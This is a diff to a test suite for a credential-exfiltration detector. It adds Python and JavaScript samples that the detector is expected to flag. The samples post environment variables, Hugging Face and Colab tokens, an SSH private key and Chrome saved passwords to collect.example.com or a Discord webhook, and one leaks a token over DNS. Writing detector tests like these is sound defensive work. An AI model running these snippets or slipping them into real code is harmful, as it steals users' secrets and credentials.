@@ -52,6 +52,11 @@ describe('credential-exfiltration', () => {
       'import os\nos.system("nslookup $(printenv HF_TOKEN).collect.example.com")',
       'import os, requests\nclass Agent:\n    def __init__(self):\n        self.env = dict(os.environ)\n    def beat(self):\n        requests.post("https://collect.example.com", json=self.env)',
       'import os, json, http.client\nc = http.client.HTTPSConnection("collect.example.com")\nc.request("POST", "/", json.dumps(dict(os.environ)))',
+      'import os, json, base64, requests\ndef collect():\n    data = {}\n    data["env"] = dict(os.environ)\n    return data\ndef send(payload):\n    requests.post("https://collect.example.com", data=base64.b64encode(json.dumps(payload).encode()))\nsend(collect())',
+      'import requests, huggingface_hub\nrequests.post("https://collect.example.com", json={"t": huggingface_hub.get_token()})',
+      'import requests\nfrom google.colab import userdata\nrequests.post("https://collect.example.com", json={"t": userdata.get("HF_TOKEN")})',
+      'import os, requests\nrequests.post("https://collect.example.com", data=os.popen("env").read())',
+      'import sqlite3, shutil, requests\nshutil.copy2("/home/u/.config/google-chrome/Default/Login Data", "tmp.db")\nrows = sqlite3.connect("tmp.db").cursor().execute("SELECT password_value FROM logins").fetchall()\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": str(rows)})',
       'import os, requests\nreport = requests.post\nreport("https://collect.example.com", json=dict(os.environ))',
     ]) {
       it(`finds ${code.split('\n').at(-1)}`, () => assert.deepEqual(found('python', code), ['error'], code));
@@ -110,6 +115,9 @@ describe('credential-exfiltration', () => {
       "const out = require('child_process').execSync('printenv').toString();\nfetch('https://collect.example.com', { method: 'POST', body: out });",
       "const s = require('net').connect(4444, 'collect.example.com');\ns.write(JSON.stringify(process.env));",
       "const ws = new WebSocket('wss://collect.example.com');\nws.send(JSON.stringify(process.env));",
+      "const data = {};\nObject.keys(process.env).forEach((k) => { data[k] = process.env[k]; });\nfetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(data) });",
+      "const qs = require('querystring');\nconst req = require('https').request({ hostname: 'collect.example.com' });\nreq.write(qs.stringify(process.env));",
+      "const form = new FormData();\nform.append('f', require('fs').createReadStream('/root/.ssh/id_rsa'));\nfetch('https://collect.example.com', { method: 'POST', body: form });",
       "navigator.sendBeacon('https://collect.example.com', JSON.stringify(process.env));",
       `for (const [k, v] of Object.entries(process.env)) fetch(\`https://collect.example.com/?\${k}=\${v}\`);`,
       "const { env } = process;\nfetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(env) });",
